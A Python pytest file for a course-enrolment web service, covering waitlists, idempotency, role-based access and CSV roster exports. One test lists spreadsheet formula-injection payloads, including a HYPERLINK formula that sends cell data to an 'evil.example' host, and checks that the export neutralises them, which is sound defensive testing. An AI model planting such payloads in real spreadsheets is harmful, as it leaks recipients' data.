"""Enrolment over HTTP: the contract's answers, idempotent repeats, who sees what, the roster."""

import csv
import io

import pytest
from sqlalchemy import func, select

from enrolment import operations
from enrolment.models import Enrolment, IdempotentRequest
from enrolment.replica import apply_offering_snapshot
from shared.events.catalogue import OfferingSnapshot
from shared.http.auth import Principal
from shared.messaging.outbox import OutboxMessage
from tests.support.payloads import bearer, offering_snapshot
from tests.support.problems import assert_problem


def student_headers(number: int, **extra) -> dict:
    return {**bearer("student", "SSMU", sub=f"ssmu-student-{number}", name=f"Студентка Номер {number}"), **extra}


@pytest.fixture
def app(service_app):
    return service_app("enrolment")


@pytest.fixture
def client(app):
    return app.test_client()


@pytest.fixture
def offering_id(app):
    snapshot = offering_snapshot(capacity=1)
    with app.extensions["database"].transaction() as session:
        apply_offering_snapshot(session, OfferingSnapshot.model_validate(snapshot))
    return snapshot["offering_id"]


def enrol(client, offering_id, number, **headers):
    return client.post("/api/v1/enrolments", json={"offering_id": offering_id},
                       headers=student_headers(number, **headers))


def count(app, model) -> int:
    with app.extensions["database"].transaction() as session:
        return session.scalar(select(func.count()).select_from(model))


def test_enrolling_answers_201_confirmed_then_waitlisted_with_a_position(client, offering_id):
    first = enrol(client, offering_id, 1)
    second = enrol(client, offering_id, 2)
    assert first.status_code == second.status_code == 201
    assert first.get_json()["status"] == "confirmed" and first.get_json()["waitlist_position"] is None
    body = second.get_json()
    assert (body["status"], body["waitlist_position"], body["student_id"]) == ("waitlisted", 1, "ssmu-student-2")
    assert body["offering"]["course_title"]["ru"] == "Гельминтозы и иммунная система"


def test_the_contract_refusals(client, offering_id):
    enrol(client, offering_id, 1)
    assert_problem(enrol(client, offering_id, 1), 409, "already_enrolled")
    assert_problem(enrol(client, "missing", 3), 404, "offering_not_found")


def test_only_students_enrol(client, offering_id):
    assert_problem(client.post("/api/v1/enrolments", json={"offering_id": offering_id}), 401, "unauthorized")
    response = client.post("/api/v1/enrolments", json={"offering_id": offering_id},
                           headers=bearer("coordinator", "LUMC"))
    assert_problem(response, 403, "forbidden")


@pytest.mark.parametrize("body, status, code", [
    ('{"offering_id": ', 400, "malformed_json"),
    ('{"offering_id": 42}', 422, "validation_error"),
    ('{"offering_id": "x", "seat": 3}', 422, "validation_error"),
    ("{}", 422, "validation_error"),
])
def test_bad_requests_are_problems_and_write_nothing(app, client, offering_id, body, status, code):
    response = client.post("/api/v1/enrolments", data=body, content_type="application/json",
                           headers=student_headers(1))
    assert_problem(response, status, code)
    assert count(app, Enrolment) == 0 and count(app, OutboxMessage) == 0


def test_a_repeated_request_with_an_idempotency_key_gets_the_first_answer(app, client, offering_id):
    first = enrol(client, offering_id, 1, **{"Idempotency-Key": "k-1"})
    repeat = enrol(client, offering_id, 1, **{"Idempotency-Key": "k-1"})
    assert first.status_code == repeat.status_code == 201
    assert repeat.get_json() == first.get_json()
    assert count(app, Enrolment) == 1
    events_after_first = count(app, OutboxMessage)
    enrol(client, offering_id, 1, **{"Idempotency-Key": "k-1"})
    assert count(app, OutboxMessage) == events_after_first


def test_a_refusal_is_replayed_too_and_leaves_nothing_behind(app, client, offering_id):
    enrol(client, offering_id, 1)
    refusal = enrol(client, offering_id, 1, **{"Idempotency-Key": "again"})
    replay = enrol(client, offering_id, 1, **{"Idempotency-Key": "again"})
    assert_problem(refusal, 409, "already_enrolled")
    assert_problem(replay, 409, "already_enrolled")
    assert replay.get_json() == refusal.get_json()
    assert count(app, Enrolment) == 1


def test_a_key_reused_for_another_request_or_another_student_is_not_confused(app, client, offering_id):
    enrol(client, offering_id, 1, **{"Idempotency-Key": "shared"})
    other = client.post("/api/v1/enrolments", json={"offering_id": "other"},
                        headers=student_headers(1, **{"Idempotency-Key": "shared"}))
    assert_problem(other, 422, "idempotency_key_reused")
    second_student = enrol(client, offering_id, 2, **{"Idempotency-Key": "shared"})
    assert second_student.get_json()["student_id"] == "ssmu-student-2"
    assert count(app, IdempotentRequest) == 2


def test_a_bad_idempotency_key_is_a_400(client, offering_id):
    assert_problem(enrol(client, offering_id, 1, **{"Idempotency-Key": "x" * 201}), 400, "bad_idempotency_key")


def test_my_enrolments_show_where_i_stand(client, offering_id):
    enrol(client, offering_id, 1)
    enrol(client, offering_id, 2)
    mine = client.get("/api/v1/enrolments/me", headers=student_headers(2))
    assert mine.status_code == 200 and '"total": 1' in mine.headers["X-Pagination"]
    assert [(e["status"], e["waitlist_position"]) for e in mine.get_json()] == [("waitlisted", 1)]


def test_an_enrolment_is_seen_by_its_student_its_coordinators_and_admins(client, offering_id):
    enrolment_id = enrol(client, offering_id, 1).get_json()["id"]
    url = f"/api/v1/enrolments/{enrolment_id}"
    for headers, status in ((student_headers(1), 200), (bearer("coordinator", "LUMC"), 200),
                            (bearer("admin", "SSMU"), 200), (student_headers(2), 404),
                            (bearer("coordinator", "SSMU"), 404), ({}, 401)):
        assert client.get(url, headers=headers).status_code == status


def test_cancelling_promotes_the_first_in_line(client, offering_id):
    seated = enrol(client, offering_id, 1).get_json()["id"]
    waiting = enrol(client, offering_id, 2).get_json()["id"]
    assert_problem(client.post(f"/api/v1/enrolments/{seated}/cancel", headers=student_headers(2)),
                   404, "enrolment_not_found")
    cancelled = client.post(f"/api/v1/enrolments/{seated}/cancel", headers=student_headers(1))
    assert cancelled.get_json()["status"] == "cancelled"
    assert client.get(f"/api/v1/enrolments/{waiting}", headers=student_headers(2)).get_json()["status"] == "confirmed"
    seats = client.get(f"/api/v1/offerings/{offering_id}/seats").get_json()
    assert seats == {"offering_id": offering_id, "capacity": 1, "confirmed": 1, "held": 0, "available": 0,
                     "waitlisted": 0, "reserved": []}


def test_a_coordinator_cancels_for_a_student(client, offering_id):
    enrolment_id = enrol(client, offering_id, 1).get_json()["id"]
    response = client.post(f"/api/v1/enrolments/{enrolment_id}/cancel", headers=bearer("coordinator", "LUMC"))
    assert response.get_json()["cancelled_by"] == "coordinator"


def test_the_roster_as_json_and_as_csv_with_cyrillic_names_intact(client, offering_id):
    for number in range(1, 4):
        enrol(client, offering_id, number)
    coordinator = bearer("coordinator", "LUMC")
    entries = client.get(f"/api/v1/offerings/{offering_id}/roster", headers=coordinator).get_json()
    assert [(e["status"], e["waitlist_position"]) for e in entries] == [
        ("confirmed", None), ("waitlisted", 1), ("waitlisted", 2)]

    response = client.get(f"/api/v1/offerings/{offering_id}/roster", headers={**coordinator, "Accept": "text/csv"})
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="roster-HEL-510-2027-spring.csv"'
    assert response.get_data().startswith(b"\xef\xbb\xbf")  # Excel then reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert [row["name"] for row in rows] == [f"Студентка Номер {n}" for n in range(1, 4)]
    assert rows[1]["waitlist_position"] == "1"

    assert_problem(client.get(f"/api/v1/offerings/{offering_id}/roster", headers=student_headers(1)),
                   403, "forbidden")
    assert_problem(client.get(f"/api/v1/offerings/{offering_id}/roster", headers=bearer("coordinator", "SSMU")),
                   403, "forbidden")
    assert_problem(client.get("/api/v1/offerings/missing/roster", headers=coordinator), 404, "offering_not_found")


def test_the_roster_lists_the_cancelled_enrolments_on_request_with_who_ended_them(client, offering_id):
    first, second, third = (enrol(client, offering_id, number).get_json()["id"] for number in (1, 2, 3))
    coordinator = bearer("coordinator", "LUMC")
    client.post(f"/api/v1/enrolments/{first}/cancel", headers=student_headers(1))
    client.post(f"/api/v1/enrolments/{third}/cancel", headers=coordinator)
    roster = f"/api/v1/offerings/{offering_id}/roster"
    assert [e["enrolment_id"] for e in client.get(roster, headers=coordinator).get_json()] == [second]
    entries = client.get(roster, query_string={"cancelled": "true"}, headers=coordinator).get_json()
    assert [(e["enrolment_id"], e["status"], e["cancelled_by"]) for e in entries] == [
        (second, "confirmed", None), (third, "cancelled", "coordinator"), (first, "cancelled", "student")]
    assert all(e["cancelled_at"] for e in entries[1:])


def test_an_unknown_offering_is_not_remembered_for_the_key_since_it_may_still_arrive(app, client):
    snapshot = offering_snapshot()
    refused = client.post("/api/v1/enrolments", json={"offering_id": snapshot["offering_id"]},
                          headers=student_headers(1, **{"Idempotency-Key": "early"}))
    assert_problem(refused, 404, "offering_not_found")
    with app.extensions["database"].transaction() as session:
        apply_offering_snapshot(session, OfferingSnapshot.model_validate(snapshot))  # the catalogue's event arrives
    retried = client.post("/api/v1/enrolments", json={"offering_id": snapshot["offering_id"]},
                          headers=student_headers(1, **{"Idempotency-Key": "early"}))
    assert retried.status_code == 201


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
            "＝1+1", "Анна Смирнова"]


def test_no_roster_cell_starts_a_formula_in_a_spreadsheet(app, client):
    """Names reach the roster from tokens; whatever they hold, a spreadsheet shows them as text (OWASP)."""
    snapshot = offering_snapshot(capacity=len(FORMULAS))
    with app.extensions["database"].transaction() as session:
        apply_offering_snapshot(session, OfferingSnapshot.model_validate(snapshot))
        for number, name in enumerate(FORMULAS):
            operations.enrol_student(session, Principal(f"student-{number}", "student", "SSMU", f"=s{number}@ssmu.ru",
                                                        name, "ru"), snapshot["offering_id"])
    response = client.get(f"/api/v1/offerings/{snapshot['offering_id']}/roster",
                          headers={**bearer("coordinator", "LUMC"), "Accept": "text/csv"})
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["name"] for row in rows] == ["'" + name for name in FORMULAS[:-1]] + ["Анна Смирнова"]
    assert all(row["email"].startswith("'=") for row in rows)
    assert text.splitlines()[1].startswith('"confirmed","","student-0"')  # every cell quoted


def test_the_roster_csv_says_until_when_an_offered_seat_is_held(app, client):
    snapshot = offering_snapshot(capacity=1, promotion="offer", offer_hours=24)
    with app.extensions["database"].transaction() as session:
        apply_offering_snapshot(session, OfferingSnapshot.model_validate(snapshot))
    seated, offered, _waiting = (enrol(client, snapshot["offering_id"], n).get_json()["id"] for n in (1, 2, 3))
    client.post(f"/api/v1/enrolments/{seated}/cancel", headers=student_headers(1))
    deadline = client.get(f"/api/v1/enrolments/{offered}", headers=student_headers(2)).get_json()["offer_expires_at"]
    response = client.get(f"/api/v1/offerings/{snapshot['offering_id']}/roster",
                          headers={**bearer("coordinator", "LUMC"), "Accept": "text/csv"})
    text = response.get_data().decode("utf-8-sig")
    assert text.splitlines()[0].endswith('"confirmed_at","offer_expires_at","pool"')
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["status"], row["offer_expires_at"]) for row in rows] == [("offered", deadline), ("waitlisted", "")]
    assert deadline and text.splitlines()[1].endswith(f'"{deadline}",""')  # quoted like every cell


@pytest.mark.parametrize("course_status", ["draft", "archived"])
def test_seats_of_an_offering_of_a_course_the_catalogue_hides_are_hidden_too(app, client, course_status):
    snapshot = offering_snapshot(course_status=course_status)
    with app.extensions["database"].transaction() as session:
        apply_offering_snapshot(session, OfferingSnapshot.model_validate(snapshot))
    seats = f"/api/v1/offerings/{snapshot['offering_id']}/seats"
    assert_problem(client.get(seats), 404, "offering_not_found")
    assert_problem(client.get(seats, headers=student_headers(1)), 404, "offering_not_found")
    assert_problem(client.get(seats, headers=bearer("coordinator", "SSMU")), 404, "offering_not_found")
    assert client.get(seats, headers=bearer("coordinator", "LUMC")).get_json()["capacity"] == 2


def test_the_roster_says_whose_reserved_seat_each_student_took(app, client):
    snapshot = offering_snapshot(capacity=2, reserved=[
        {"institution": "SSMU", "seats": 1, "release_at": "2099-01-01T00:00:00+00:00"}])
    with app.extensions["database"].transaction() as session:
        apply_offering_snapshot(session, OfferingSnapshot.model_validate(snapshot))
    assert enrol(client, snapshot["offering_id"], 1).status_code == 201  # an SSMU student: the pool's seat
    lumc = bearer("student", "LUMC", sub="lumc-student-1", name="Student 1")
    assert client.post("/api/v1/enrolments", json={"offering_id": snapshot["offering_id"]},
                       headers=lumc).status_code == 201  # the open seat
    roster = client.get(f"/api/v1/offerings/{snapshot['offering_id']}/roster",
                        headers=bearer("coordinator", "LUMC")).get_json()
    assert [(entry["institution"], entry["pool"]) for entry in roster] == [("SSMU", "SSMU"), ("LUMC", None)]
